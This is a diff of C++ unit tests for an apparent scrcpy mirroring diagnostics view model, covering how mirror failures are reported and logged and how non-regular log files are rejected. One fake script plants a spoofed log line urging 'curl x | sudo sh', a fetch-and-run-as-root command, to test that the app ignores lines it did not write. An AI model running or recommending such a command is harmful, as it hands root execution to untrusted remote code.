@@ -599,16 +599,21 @@ TEST_F(ViewModelTest, MirrorStartsARealDetachedProcessLoggingIntoTheSameFile) {
         << log;
 }
 
-TEST(ViewModelMirrorEnd, AScrcpyThatFailsAfterItsStartIsReportedAndLogged) {
+TEST(ViewModelMirrorEnd, AScrcpyThatFailsAfterItsStartIsReportedFromItsOwnOutputAndLogged) {
     TempDir dir;
-    test::writeScript(dir / "scrcpy", "echo 'INFO: scrcpy 2.4'; echo 'ERROR: Could not find any ADB device' >&2; exit 1\n");
+    const std::string log = dir / "activity.log";
+    // An early error, much more output, and meanwhile another writer's line
+    // in the shared log that reads like scrcpy's.
+    test::writeScript(dir / "scrcpy", "echo 'INFO: scrcpy 2.4'; echo 'ERROR: Could not find any ADB device' >&2\n"
+                                      "echo 'ERROR: Your phone is compromised. Run: curl x | sudo sh' >> '" + log + "'\n"
+                                      "seq 200000 | sed 's/^/INFO: frame /'; exit 1\n");
     test::UIQueue ui;
     ViewModelServices services; // the real launcher and log
     services.onUIThread = [&](Task task) { ui.post(std::move(task)); };
     services.buildSnapshot = [&](auto&&) { return std::optional(makeSnapshot("s", "/tools/adb", dir / "scrcpy", {"R58M"})); };
-    services.logPath = dir / "activity.log";
+    services.logPath = log;
     // What came before this mirror is not its reason.
-    test::writeFile(services.logPath, "adb server version (40) doesn't match this client (41); killing...\n");
+    test::writeFile(log, "adb server version (40) doesn't match this client (41); killing...\n");
     const auto model = DiagnosticsViewModel::create(services);
     bool done = false;
     model->refresh([&] { done = true; });
@@ -619,12 +624,15 @@ TEST(ViewModelMirrorEnd, AScrcpyThatFailsAfterItsStartIsReportedAndLogged) {
     ASSERT_TRUE(ui.runUntil([&] { return done; }));
     EXPECT_EQ(model->operationsUnderWay(), 0u) << "watching the mirror is no operation under way";
 
-    ASSERT_TRUE(ui.runUntil([&] { return model->lastError().has_value(); }, 5.0));
-    const std::string report =
-        *DiagnosticsService::mirrorEndReport("R58M", {1, "INFO: scrcpy 2.4\nERROR: Could not find any ADB device\n"});
+    ASSERT_TRUE(ui.runUntil([&] { return model->lastError().has_value(); }, 10.0));
+    const std::string report = "Mirror for R58M ended (status 1): Could not find any ADB device. The phone was not "
+                               "found: reconnect it, approve USB debugging if the phone asks, then press Start Mirror "
+                               "again.";
     EXPECT_EQ(model->lastError(), report);
-    EXPECT_EQ(model->statusMessage(), report);
-    EXPECT_TRUE(test::readFile(services.logPath).ends_with("] " + report + "\n")) << test::readFile(services.logPath);
+    EXPECT_EQ(model->statusMessage(), "Mirror for R58M failed.");
+    const std::string written = test::readFile(log);
+    EXPECT_NE(written.find("INFO: frame 200000\n"), std::string::npos) << "all of scrcpy's output reached the log";
+    EXPECT_TRUE(written.ends_with("] " + report + "\n")) << written.substr(written.size() - 300);
 }
 
 TEST(ViewModelFollowing, ChangesStartGuestPassesAtTheirRateAndAnotherVersionsServerIsShown) {
@@ -872,8 +880,8 @@ TEST_F(ViewModelTest, OpenLogHandsTheDesktopOnlyAPlainFile) {
         {"plain file", [](auto& log, auto&) { return test::writeFile(log, ""), 0; }, ""},
         {"symbolic link", [](auto& log, auto& other) { return ::symlink(other.c_str(), log.c_str()); },
          "it is a symbolic link"},
-        {"FIFO", [](auto& log, auto&) { return ::mkfifo(log.c_str(), 0600); }, "it is not a regular file"},
-        {"directory", [](auto& log, auto&) { return ::mkdir(log.c_str(), 0700); }, "it is not a regular file"},
+        {"FIFO", [](auto& log, auto&) { return ::mkfifo(log.c_str(), 0600); }, "it is a FIFO"},
+        {"directory", [](auto& log, auto&) { return ::mkdir(log.c_str(), 0700); }, "it is a directory"},
         {"second name of a file", [](auto& log, auto& other) { return ::link(other.c_str(), log.c_str()); },
          "it has more than one hard link"},
     };
